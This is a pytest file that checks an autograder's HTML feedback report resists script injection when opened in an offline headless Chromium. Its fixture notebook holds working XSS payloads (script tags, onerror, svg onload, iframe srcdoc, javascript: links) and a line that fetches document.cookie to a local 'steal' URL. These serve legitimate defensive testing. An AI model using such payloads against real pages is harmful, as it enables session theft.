"""A feedback report in a real (headless) Chromium, with the network blocked.

A student of the fixture course (``tests/files/course_fixture``) submits a
notebook that solves the exercises, plots a figure, writes maths in a markdown
cell and tries every usual way to run script in the browser of whoever opens
its feedback: ``display(HTML('<script>…'))``, an ``<img onerror>``, a
``Javascript`` output, an iframe whose ``srcdoc`` holds a script, an SVG with
``onload`` and a ``<meta http-equiv=refresh>``, in outputs and in markdown.
The class is graded by the real pipeline (``autograder grade``, real nbgrader,
real kernels) and ``autograder feedback`` writes the report; Chromium opens
the file with every request other than ``file:`` refused.

The report must show the score table, the figure and typeset maths (from the
local MathJax, since nothing can be fetched), and no student script may run:
no changed title or window flag, no console message, no dialog, no request.
Screenshots go to ``test-artifacts/browser/``.
"""

from __future__ import annotations

import json

import nbformat
import pytest
from conftest import with_cell
from fixture_course import ASSIGNMENT, NOTEBOOK, _json, build_course, source_nb
from test_browser import ARTIFACTS, CHROMIUM, CHROMIUM_ARGS, sync_playwright

from autograder.cli import main

__all__ = ["sync_playwright"]  # the fixture, shared with test_browser.py

pytestmark = pytest.mark.slow

MARK = "pwned"
STUDENT = "mallory"
# Generous limits: the first matplotlib import in a fresh sandbox builds its
# font cache.
LIMITS = ["--cell-timeout", "60", "--notebook-timeout", "240"]
MATHS = r"The mean is $\bar{x} = \frac{1}{m} \sum_{i=1}^{m} x_i$, and"
PAYLOAD_CELL = f"""\
%matplotlib inline
import matplotlib.pyplot as plt
from IPython.display import HTML, Javascript, display

plt.plot([0, 1, 2], [0, 1, 4])
plt.title("my plot")
plt.show()
steal = "fetch('http://127.0.0.1:9/steal?' + document.cookie)"
display(HTML(
    "<script>document.title = '{MARK}'; window.{MARK} = 1; "
    "console.log('{MARK} by script'); " + steal + "</script>"
))
display(HTML(
    "<img src=x onerror=\\"window.{MARK} = 2; console.log('{MARK} by onerror')\\">"
))
display(Javascript("window.{MARK} = 3; console.log('{MARK} by Javascript')"))
display(HTML(
    "<iframe srcdoc=\\"<script>parent.{MARK} = 4; "
    "console.log('{MARK} by iframe')</script>\\"></iframe>"
))
display(HTML(
    "<svg onload=\\"window.{MARK} = 5; console.log('{MARK} by svg')\\">"
    "<script>window.{MARK} = 6</script></svg>"
))
display(HTML(
    "<meta http-equiv=refresh content=\\"0; url=javascript:window.{MARK} = 7\\">"
))
"""
MARKDOWN_CELL = f"""\
## My notes

{MATHS} a picture: <img src=x onerror="window.{MARK} = 8; console.log('{MARK} md')">

<script>window.{MARK} = 9; console.log('{MARK} by markdown script')</script>

[a link](javascript:window.{MARK}=10) and a link in maths:
$\\href{{javascript:window.{MARK}=11}}{{x_{{link}}}}$
"""

TYPESET = """() => {
    const cell = [...document.querySelectorAll('.jp-MarkdownCell')]
        .find(c => c.textContent.includes('My notes'));
    return Boolean(cell && cell.querySelector('.MathJax, .MathJax_Display'));
}"""


def hostile_submission():
    nb = with_cell(source_nb(), PAYLOAD_CELL, index=2)
    nb.cells.insert(2, nbformat.v4.new_markdown_cell(MARKDOWN_CELL))
    return nb


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    """Grade the class with the real pipeline, then write the feedback."""
    scenario = {STUDENT: (lambda: {NOTEBOOK: _json(hostile_submission())},)}
    course = build_course(tmp_path_factory.mktemp("class"), scenario)
    args = ["--course", str(course)]
    assert main(["grade", *args, "--no-progress", *LIMITS]) == 0
    outcomes = json.loads((course / "grading_outcomes.json").read_text())
    assert [(r["student"], r["outcome"]) for r in outcomes] == [(STUDENT, "graded")]
    assert main(["feedback", *args]) == 0
    path = course / "feedback" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html"
    assert path.is_file()
    return path


@pytest.fixture(scope="module")
def opened(report, sync_playwright):
    """The report in Chromium, offline; what the page did is recorded."""
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} not found")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    seen = {"requests": [], "console": [], "dialogs": [], "errors": []}

    def refuse_network(route):
        if route.request.url.startswith("file:"):
            route.continue_()
        else:
            seen["requests"].append(route.request.url)
            route.abort()

    def on_dialog(dialog):
        seen["dialogs"].append(dialog.message)
        dialog.dismiss()

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
        )
        try:
            context = browser.new_context(viewport={"width": 1200, "height": 900})
            context.set_default_timeout(30_000)
            context.route("**/*", refuse_network)
            page = context.new_page()
            page.on("console", lambda m: seen["console"].append(m.text))
            page.on("dialog", on_dialog)
            page.on("pageerror", lambda e: seen["errors"].append(str(e)))
            page.goto(report.as_uri())
            page.wait_for_load_state("load")
            try:
                page.wait_for_function(TYPESET, timeout=30_000)
            except Exception:  # keep the picture of what went wrong
                page.screenshot(path=str(ARTIFACTS / "feedback-untypeset.png"))
                seen["typeset"] = False
            else:
                seen["typeset"] = True
            # Late handlers (onerror of a broken image, iframes) have run by now.
            page.wait_for_timeout(500)
            page.screenshot(path=str(ARTIFACTS / "feedback-report.png"), full_page=True)
            yield page, seen
        finally:
            browser.close()


def test_no_student_script_runs_in_the_report(opened):
    page, seen = opened
    assert MARK not in page.title()
    assert page.evaluate(f"() => window.{MARK}") is None
    assert seen["dialogs"] == []
    assert [m for m in seen["console"] if MARK in m] == []
    assert seen["requests"] == [], "the report asked for something over the network"


def test_clicking_every_link_runs_nothing(opened):
    page, seen = opened
    assert page.locator("a").count() >= 1
    page.evaluate("() => document.querySelectorAll('a').forEach(a => a.click())")
    page.wait_for_timeout(300)
    assert page.evaluate(f"() => window.{MARK}") is None
    assert [m for m in seen["console"] if MARK in m] == []


def test_the_score_table_and_the_figure_are_visible(opened):
    page, _ = opened
    table = page.locator(".autograder-feedback table")
    assert table.is_visible()
    for name in ("square", "mean", "relu", "total"):
        assert name in table.inner_text()
    assert "30 / 30" in table.inner_text()
    figure = page.locator(".jp-RenderedImage img").first
    figure.scroll_into_view_if_needed()
    assert figure.get_attribute("src").startswith("data:image/png")
    box = figure.bounding_box()
    assert box and box["width"] > 100 and box["height"] > 50, box


def test_maths_is_typeset_without_the_network(opened):
    page, seen = opened
    assert seen["typeset"], "no MathJax output in the markdown cell"
    cell = page.locator(".jp-MarkdownCell", has_text="My notes")
    assert cell.locator("h2").inner_text().strip() == "My notes"  # markup, not text
    assert "\\frac" not in cell.inner_text()
    assert seen["requests"] == []
